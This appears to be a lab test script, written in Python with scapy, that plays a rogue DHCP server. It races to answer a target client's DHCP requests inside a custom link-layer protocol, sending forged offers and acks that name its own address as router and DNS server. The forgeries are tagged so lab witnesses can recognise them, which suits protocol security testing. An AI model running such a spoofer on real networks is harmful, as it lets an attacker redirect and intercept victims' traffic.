"""A DHCP server that nobody asked for a part in the link layer: it reads what DHCP frames carry and answers them first.

Arguments: interface, own hardware and protocol address, the address that it gives, the client's hardware address, seconds.

Each answer goes out twice, plain and in a DHCP frame (docs/protocol.md, section 22) with the nonce of the question and a made-up tag.
"""
import os
import struct
import sys
import time

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, Raw, conf, mac2str

conf.verb = 0
interface, own_mac, own, given, client_mac, seconds = sys.argv[1:7]
# By this, in a field that nobody reads, the witnesses know these messages.
MARK = b"ringwall lab, forged DHCP"
CLL = 0x07D0
DHCP_FRAME = b"\x2b\x00"
ANSWERS = {1: "offer", 3: "ack"}


def answer(question, frame):
    kind = dict(option for option in question[DHCP].options if isinstance(option, tuple))["message-type"]
    if kind not in ANSWERS:
        return []
    options = [("message-type", ANSWERS[kind]), ("server_id", own), ("lease_time", 600)]
    options += [("subnet_mask", "255.255.255.0"), ("router", own), ("name_server", own), "end"]
    bootp = BOOTP(op=2, xid=question[BOOTP].xid, chaddr=mac2str(client_mac), yiaddr=given, sname=MARK)
    packet = bytes(IP(src=own, dst="255.255.255.255") / UDP(sport=67, dport=68) / bootp / DHCP(options=options))
    stamp = struct.pack("!QI", int(time.time()), 0)
    nonces = frame[44:60] + os.urandom(16)
    wrapped = b"\x2b\x01" + os.urandom(16) + frame[18:32] + stamp + nonces + b"\x00\x00" + packet
    ethernet = {"src": own_mac, "dst": client_mac}
    return [Ether(**ethernet, type=0x0800) / Raw(packet), Ether(**ethernet, type=CLL) / Raw(wrapped)]


socket = conf.L2socket(iface=interface)
print("listening", flush=True)
end = time.monotonic() + float(seconds)
while time.monotonic() < end:
    heard = socket.recv()
    if heard is None or heard.type != CLL or heard.src != client_mac:
        continue
    frame = bytes(heard.payload)
    if not frame.startswith(DHCP_FRAME):
        continue
    certificate_len = struct.unpack_from("!H", frame, 76)[0]
    question = IP(frame[78 + certificate_len:])
    if DHCP in question:
        for message in answer(question, frame):
            socket.send(message)
